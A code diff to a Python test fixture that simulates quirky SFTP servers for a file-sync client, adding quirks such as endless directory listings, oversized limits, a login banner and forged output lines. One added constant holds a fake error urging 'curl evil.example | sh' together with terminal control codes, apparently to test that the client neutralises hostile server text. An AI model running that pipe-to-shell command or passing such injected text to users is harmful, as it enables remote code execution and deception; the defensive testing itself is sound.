@@ -33,6 +33,9 @@ OPENSSH: Mapping[bytes, bytes] = {
 }
 
 
+FORGED = "x)\nreconcile: error: THE HOST KEY HAS CHANGED: run curl evil.example | sh\r\x1b[2J\x9b2J"
+
+
 class Quirk(Enum):
     """What such a server does otherwise."""
 
@@ -51,6 +54,10 @@ class Quirk(Enum):
     DIES_OF_HASTE = auto()  # hangs up when it is asked for what it did not announce: lsh
     ANOTHER_DISK = auto()  # every directory named "disk" is on a file system of its own: a mount, a data set
     FORBIDS_COLON = auto()  # takes no name with a colon, and does not say why: FAT, CIFS
+    READDIR_ENDLESS = auto()  # has lost its place in a directory, and lists it for ever
+    LIMITS_HUGE = auto()  # "no limit" is told as 2**62 bytes
+    SPEAKS_FIRST = auto()  # a login script says hello where SFTP should begin
+    FORGES_LINES = auto()  # its words hold lines that look like ours, and control codes
     RENAME_DENIED = auto()  # of anything: ProFTPD with <Limit RNFR>
 
 
@@ -117,6 +124,8 @@ class QuirkyFiles(Files):
 
     def mkdir(self, path: str, attr: Attributes) -> int:
         """MKDIR."""
+        if Quirk.FORGES_LINES in self.quirks and ".reconcile" not in path:
+            raise OSError(errno.EIO, FORGED)
         self._check_name(path)
         return super().mkdir(path, attr)
 
@@ -148,20 +157,37 @@ class QuirkySession(Session):
 
     quirks: frozenset[Quirk] = frozenset()
 
-    def start_subsystem(self, *args: object) -> None:
+    def start_subsystem(self, name: str, transport: paramiko.Transport, channel: paramiko.Channel) -> None:
         """Serve until the client is done."""
         self._greeted = False
+        if Quirk.SPEAKS_FIRST in self.quirks:
+            channel.sendall(b"\n \x1b[32mWelcome to web42\x1b[0m\nHave a nice day\n")
         self._waiting: list[tuple[int, bytes]] = []
-        super().start_subsystem(*args)  # type: ignore[arg-type]
+        super().start_subsystem(name, transport, channel)
 
     def _serve(self, kind: int, body: bytes) -> None:
         announced = any(body[8:].startswith(name) for name in self.extensions)
         if kind == wire.EXTENDED and not announced and Quirk.DIES_OF_HASTE in self.quirks:
             self.sock.close()
-        if Quirk.UNORDERED in self.quirks and kind in _BY_PATH:
+        if kind == wire.READDIR and Quirk.READDIR_ENDLESS in self.quirks:
+            self._list_more(int.from_bytes(body[:4]))
+        elif announced and body[8:].startswith(b"limits@") and Quirk.LIMITS_HUGE in self.quirks:
+            answer = paramiko.Message(body[:4] + (1 << 62).to_bytes(8) * 4)
+            self._send_packet(wire.EXTENDED_REPLY, answer)
+        elif Quirk.UNORDERED in self.quirks and kind in _BY_PATH:
             self._waiting.append((kind, body))
         else:
             super()._serve(kind, body)
+
+    def _list_more(self, number: int) -> None:
+        answer = paramiko.Message()
+        answer.add_int(number)
+        answer.add_int(100)
+        for each in range(100):
+            for text in (b"%d-%d" % (number, each), b""):
+                answer.add_string(text)
+            answer.add_int(0)  # no attributes
+        self._send_packet(wire.NAME, answer)
 
     def _flush(self) -> None:
         waiting, self._waiting = self._waiting, []
@@ -185,7 +211,7 @@ _BY_PATH = {
 @contextmanager
 def start_quirky(folder: Path, *quirks: Quirk) -> Iterator[Server]:
     """A server with these quirks that shows ``folder``."""
-    announced = OPENSSH if Quirk.CLAIMS_OPENSSH in quirks else Session.extensions
+    announced = OPENSSH if {Quirk.CLAIMS_OPENSSH, Quirk.LIMITS_HUGE} & set(quirks) else Session.extensions
     files = type("Files", (QuirkyFiles,), {"quirks": frozenset(quirks)})
     made = {"quirks": frozenset(quirks), "extensions": MappingProxyType(dict(announced))}
     session = type("Session", (QuirkySession,), made)
